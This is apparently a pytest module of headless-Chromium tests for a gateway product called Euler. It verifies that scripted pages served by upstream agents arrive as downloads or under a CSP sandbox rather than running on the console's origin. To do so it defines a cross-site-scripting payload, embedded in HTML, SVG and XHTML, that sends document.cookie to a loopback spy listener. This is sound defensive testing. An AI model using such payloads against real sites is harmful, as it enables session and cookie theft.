"""Nothing from an upstream runs on Euler's origin, proved in real headless Chromium.

A signed-in console user opens an invoke URL whose agent (a real HTTP server on loopback) answers a
page with a script. Were it to run, the script would set `document.title`, write `localStorage` on
Euler's origin and send `document.cookie` to a loopback listener with a synchronous XHR (so the
request is made before the page's load event, which `page.goto` waits for). The control test
shows the same page served from the agent's own origin does all of that, so silence is meaningful.
"""

from __future__ import annotations

import threading
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from agents.services import agent_create
from tests.browser.conftest import sign_in
from tests.gateway.conftest import _gateway_state, gateway, upstreams  # noqa: F401 - real loopback servers
from tests.gateway.servers import ServerThread, _reply

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

MARKER = "XSS-RAN"
SCRIPT = (
    "document.title = '{m}';"
    " try {{ localStorage.setItem('xss', '{m}'); }} catch (e) {{}}"
    " try {{ var x = new XMLHttpRequest();"
    " x.open('GET', '{spy}/collect?m={m}&c=' + encodeURIComponent(document.cookie), false); x.send(); }}"
    " catch (e) {{}}"
)
PAGES = {
    "text/html": "<!doctype html><html><head><title>agent</title></head><body><script>{js}</script></body></html>",
    "image/svg+xml": (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>agent</title>'
        "<script><![CDATA[{js}]]></script></svg>"
    ),
    "application/xhtml+xml": (
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>agent</title></head>'
        "<body><script><![CDATA[{js}]]></script></body></html>"
    ),
}


class Spy:
    """A loopback listener: records the query of every request that reaches it."""

    def __init__(self):
        self.seen: list[dict[str, list[str]]] = []
        self.lock = threading.Lock()

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            return
        with self.lock:
            self.seen.append(parse_qs(scope["query_string"].decode()))
        await _reply(send, 200, b"thanks")


@pytest.fixture
def spy():
    app = Spy()
    server = ServerThread(app).start()
    app.url = server.url
    yield app
    server.stop()


@pytest.fixture
def agent_page(project, upstreams, spy):  # noqa: F811 - the imported fixture
    """make(content_type) -> (path, body): the agent `web` serves the scripted page at `path`."""
    up = upstreams("web-1")
    agent = agent_create(project=project, fields={"name": "web"}, instances=[{"base_url": up.url}])
    assert agent.instances.get().health == "unknown"  # never health-checked here: it receives calls anyway

    def make(content_type: str) -> tuple[str, bytes]:
        body = PAGES[content_type].format(js=SCRIPT.format(m=MARKER, spy=spy.url)).encode()
        up.pages["/page"] = (content_type, body)
        return "/page", body

    make.upstream = up
    return make


def session_cookie(context) -> dict:
    [cookie] = [c for c in context.cookies() if c["name"] == "sessionid"]
    return cookie


def assert_no_script_ran_on_euler(page, base: str, spy: Spy, cookie: dict) -> None:
    assert page.title() != MARKER
    assert spy.seen == []  # the synchronous XHR would have reached it before the load event
    page.goto(f"{base}/login/")  # back on Euler's origin (the console), read its storage
    assert page.evaluate("localStorage.getItem('xss')") is None
    assert cookie["httpOnly"] is True  # not readable from script even on the origin itself


def test_the_harness_sees_a_script_that_runs(new_page, owner, gateway, agent_page, spy):  # noqa: F811
    """Control: the same page from the agent's own origin runs, reaches the listener, and still sees no session."""
    agent_page("text/html")
    page = new_page()
    sign_in(page, gateway, "olivia")
    page.goto(f"{agent_page.upstream.url}/page")
    assert page.title() == MARKER
    assert len(spy.seen) == 1 and spy.seen[0]["m"] == [MARKER]
    assert "sessionid" not in spy.seen[0].get("c", [""])[0]  # HttpOnly: not in document.cookie anywhere
    assert session_cookie(page.context)["httpOnly"] is True


@pytest.mark.parametrize("content_type", list(PAGES))
def test_a_console_session_gets_the_page_as_a_download_and_nothing_runs(
    new_page,
    owner,
    gateway,  # noqa: F811
    agent_page,
    spy,
    content_type,
):
    from playwright.sync_api import Error as PlaywrightError

    path, body = agent_page(content_type)
    page = new_page()
    sign_in(page, gateway, "olivia")
    url = f"{gateway}/api/v1/agents/web/invoke{path}"
    with page.expect_download() as info:
        try:
            page.goto(url)
        except PlaywrightError as error:  # a navigation that becomes a download is reported as an error
            assert "Download is starting" in error.message
    download = info.value
    assert download.url == url
    assert Path(download.path()).read_bytes() == body  # the agent's page, with its script, arrived: as a file
    assert page.url != url  # the tab never showed it
    assert agent_page.upstream.hits == 1
    assert_no_script_ran_on_euler(page, gateway, spy, session_cookie(page.context))


@pytest.mark.parametrize("content_type", list(PAGES))
def test_a_page_shown_inline_is_sandboxed_and_runs_no_script(
    new_page,
    owner,
    gateway,  # noqa: F811
    api_key,
    agent_page,
    spy,
    content_type,
):
    """Second layer: a browser calling with an API key gets the page inline; the CSP sandbox stops its script."""
    path, _ = agent_page(content_type)
    page = new_page()
    sign_in(page, gateway, "olivia")
    page.context.set_extra_http_headers({"X-Euler-API-Key": api_key})
    url = f"{gateway}/api/v1/agents/web/invoke{path}"
    response = page.goto(url)
    assert response.status == 200 and page.url == url  # rendered in the tab this time
    assert agent_page.upstream.hits == 1
    page.context.set_extra_http_headers({})
    assert_no_script_ran_on_euler(page, gateway, spy, session_cookie(page.context))
    assert response.headers["content-security-policy"].startswith("sandbox;")  # why: the sandbox
    assert "content-disposition" not in response.headers
